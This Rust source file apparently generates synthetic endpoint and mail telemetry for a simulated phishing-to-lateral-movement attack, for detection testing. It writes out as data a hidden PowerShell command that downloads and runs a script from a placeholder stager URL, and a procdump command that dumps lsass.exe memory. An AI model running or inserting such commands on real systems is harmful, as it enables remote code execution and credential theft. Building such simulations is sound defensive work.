//! A mail with a macro document, a download, a beacon, stolen credentials, and a step to the next machines.

use std::borrow::Cow;

use super::beacon_label;
use super::indicator::{
    BEACON_DOMAIN, BEACON_IP, BEACON_IPV6, MAIL_DOMAIN, MAIL_IP, MAIL_SENDER, STAGER_URL, Story,
};
use super::payload::Payload;
use crate::generate::calendar::{HOUR, MILLISECOND, MINUTE, SECOND};
use crate::generate::catalogue::App;
use crate::generate::day::{Connection, DeviceDay, Message, WindowsTree};
use crate::generate::process::{Integrity, ProcessRef, Start};
use crate::generate::random::Topic;
use crate::generate::rows::{Evidence, Item, Sender, Verdict};

/// Days before the end of the data on which the mail is opened.
pub(super) const DAYS_BACK: i64 = 2;

const NOT_CAUGHT: Verdict = Verdict {
    action: "Delivered",
    location: "Inbox/Folder",
    threat: "",
    method: "",
};

/// Part 0 opens the mail, part 1 is a colleague's workstation, part 2 the file server.
pub(super) fn write(day: &mut DeviceDay<'_, '_>, part: usize, days_back: i64) {
    match (part, days_back) {
        (0, DAYS_BACK) => opens_mail(day),
        (0, 0..DAYS_BACK) => keeps_calling(day),
        (1 | 2, DAYS_BACK) => is_reached(day),
        _ => {}
    }
}

fn opens_mail(day: &mut DeviceDay<'_, '_>) {
    let tree = WindowsTree::of_today(day);
    let opened = day.local(9, 12);
    receive(day, opened - 20 * MINUTE);
    let outlook = tree.open(day, App::Outlook, opened - HOUR, "\"OUTLOOK.EXE\"");
    let invoice = day.tenant.cast.payloads.get(Payload::Invoice);
    let item = Item::of(invoice, &tree.account.name);
    let command_line = format!("\"WINWORD.EXE\" /n \"{}\"", item.path);
    if let Some(row) = day.change_file(outlook, opened, "FileCreated", item) {
        row.origin_referrer = Cow::Borrowed("https://outlook.office365.com/");
    }
    let word = WindowsTree::child(day, outlook, App::Word, opened + 4 * SECOND, command_line);
    day.load_image(
        word,
        opened + 6 * SECOND,
        Item::of(day.file(App::VbeDll), ""),
    );
    let shell = runs_stager(day, word, opened + 31 * SECOND);
    beacons(day, shell, opened + 2 * MINUTE, day.local(18, 0));
    dumps_credentials(day, shell, day.local(11, 40));
    raise(day, day.local(11, 44));
}

fn receive(day: &mut DeviceDay<'_, '_>, at: i64) {
    let Some(person) = day.tenant.owner(day.device) else {
        return;
    };
    let mut stream = day.stream(Topic::Story);
    let message = Message {
        sender: Sender {
            address: Cow::Borrowed(MAIL_SENDER),
            display_name: Cow::Borrowed("Parcel Desk Accounts"),
            object_id: "",
            ipv4: Cow::Borrowed(MAIL_IP),
            ipv6: Cow::Borrowed(""),
        },
        subject: Cow::Borrowed("Overdue: invoice 88213"),
        verdict: NOT_CAUGHT,
        urls: vec![Cow::Owned(format!("https://pay.{MAIL_DOMAIN}/88213"))],
        attachment: Some(Item {
            path: Cow::Borrowed(""),
            ..Item::of(day.tenant.cast.payloads.get(Payload::Invoice), "")
        }),
    };
    let id = day.receive(at, person, message, &mut stream);
    let url = Cow::Owned(format!("https://pay.{MAIL_DOMAIN}/88213"));
    day.click(at + 15 * MINUTE, person, &id, url, &mut stream);
}

/// Word starts PowerShell, which fetches and runs a script.
fn runs_stager(day: &mut DeviceDay<'_, '_>, word: ProcessRef, at: i64) -> ProcessRef {
    let command_line = format!(
        "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('{STAGER_URL}')\""
    );
    let shell = WindowsTree::child(day, word, App::PowerShell, at, command_line);
    day.load_image(
        shell,
        at + 200 * MILLISECOND,
        Item::of(day.file(App::AmsiDll), ""),
    );
    day.connect(
        shell,
        at + SECOND,
        Connection::to(BEACON_IP, 80, STAGER_URL),
    );
    let user = day.process(shell).account.name.as_str();
    let stager = Item::of(day.tenant.cast.payloads.get(Payload::Stager), user);
    if let Some(row) = day.change_file(shell, at + 2 * SECOND, "FileCreated", stager) {
        row.origin_url = Cow::Borrowed(STAGER_URL);
        row.origin_ip = Cow::Borrowed(BEACON_IP);
    }
    if let Some(row) = day.note(shell, at + 3 * SECOND, "PowerShellCommand") {
        row.additional = Cow::Borrowed(r#"{"Command":"Invoke-Expression"}"#);
    }
    shell
}

/// A call about every nine minutes, each to another name below the domain; now and then over IPv6.
fn beacons(day: &mut DeviceDay<'_, '_>, process: ProcessRef, from: i64, to: i64) {
    let mut stream = day.stream(Topic::Story);
    let (mut at, mut beat) = (from, 0);
    while at < to {
        let ip = if beat % 6 == 5 {
            BEACON_IPV6
        } else {
            BEACON_IP
        };
        let label = beacon_label(day.device.number, at);
        day.connect(
            process,
            at,
            Connection::to(ip, 443, format!("{label}.{BEACON_DOMAIN}")),
        );
        at += 8 * MINUTE + stream.between(0, 2 * MINUTE);
        beat += 1;
    }
}

/// On the following days the stager runs again from a scheduled task.
fn keeps_calling(day: &mut DeviceDay<'_, '_>) {
    let tree = WindowsTree::of_today(day);
    let from = day.local(9, 5);
    let command_line = r"powershell.exe -nop -w hidden -f C:\Users\Public\update.ps1";
    let shell = WindowsTree::child(day, tree.netsvcs, App::PowerShell, from, command_line);
    beacons(day, shell, from + 10 * SECOND, day.local(17, 30));
}

fn dumps_credentials(day: &mut DeviceDay<'_, '_>, shell: ProcessRef, at: i64) {
    let dumper = day.tenant.cast.payloads.get(Payload::Dumper);
    day.change_file(shell, at - 30 * SECOND, "FileCreated", Item::of(dumper, ""));
    let start = Start {
        file: dumper,
        parent: Some(shell),
        account: day.process(shell).account,
        command_line: Cow::Borrowed(
            r"C:\Users\Public\pd64.exe -accepteula -ma lsass.exe C:\Users\Public\l.dmp",
        ),
        integrity: Integrity::High,
        at,
    };
    let process = day.create(start);
    day.load_image(
        process,
        at + SECOND,
        Item::of(day.file(App::DbghelpDll), ""),
    );
    let lsass = Item::of(day.file(App::Lsass), "");
    if let Some(row) = day.note(process, at + SECOND, "OpenProcessApiCall") {
        row.item = Some(lsass);
        row.additional = Cow::Borrowed(r#"{"DesiredAccess":2035711}"#);
    }
}

fn raise<'t>(day: &mut DeviceDay<'_, 't>, at: i64) {
    let payloads = &day.tenant.cast.payloads;
    let mut evidence = vec![
        Evidence::File(Item::of(payloads.get(Payload::Invoice), "")),
        Evidence::Process(
            Item::of(payloads.get(Payload::Dumper), ""),
            Cow::Borrowed("pd64.exe -ma lsass.exe"),
        ),
        Evidence::Ip(Cow::Borrowed(BEACON_IP)),
        Evidence::Url(Cow::Borrowed(STAGER_URL)),
        Evidence::Message(Cow::Borrowed("Overdue: invoice 88213")),
    ];
    if let Some(owner) = day.tenant.owner(day.device) {
        evidence.push(Evidence::User(&owner.account));
    }
    day.raise(Story::InvoiceMacro, at, evidence);
}

/// The stolen account logs on over the network and installs a service that calls home once.
fn is_reached(day: &mut DeviceDay<'_, '_>) {
    let tree = WindowsTree::of_today(day);
    let at = day.local(13, 5);
    let first = day.tenant.cast.of(Story::InvoiceMacro).first();
    let Some(source) = first.and_then(|number| day.tenant.devices.get(*number as usize)) else {
        return;
    };
    let Some(owner) = day.tenant.owner(source) else {
        return;
    };
    if let Some(row) = day.log_on(tree.lsass, at, "Network", &owner.account) {
        row.protocol = "NTLM";
        row.is_local_admin = Some(true);
        row.remote_ip = Cow::Borrowed(&source.ip);
        row.remote_device = Cow::Borrowed(source.short_name());
        row.remote_port = Some(50_211);
    }
    let service = day.tenant.cast.payloads.get(Payload::RemoteService);
    day.change_file(
        tree.netsvcs,
        at + SECOND,
        "FileCreated",
        Item::of(service, ""),
    );
    day.set_registry(
        tree.services,
        at + 2 * SECOND,
        r"HKEY_LOCAL_MACHINE\SYSTEM\ControlSet001\Services\SvcUpd",
        "ImagePath",
        r"C:\Windows\Temp\svcupd.exe",
    );
    if let Some(row) = day.note(tree.services, at + 2 * SECOND, "ServiceInstalled") {
        row.item = Some(Item::of(service, ""));
        row.additional =
            Cow::Borrowed(r#"{"ServiceName":"SvcUpd","ServiceAccount":"LocalSystem"}"#);
    }
    let start = Start {
        file: service,
        parent: Some(tree.services),
        account: &day.tenant.accounts.system,
        command_line: Cow::Borrowed(r"C:\Windows\Temp\svcupd.exe"),
        integrity: Integrity::System,
        at: at + 3 * SECOND,
    };
    let process = day.create(start);
    let label = beacon_label(day.device.number, at);
    day.connect(
        process,
        at + 5 * SECOND,
        Connection::to(BEACON_IP, 443, format!("{label}.{BEACON_DOMAIN}")),
    );
}
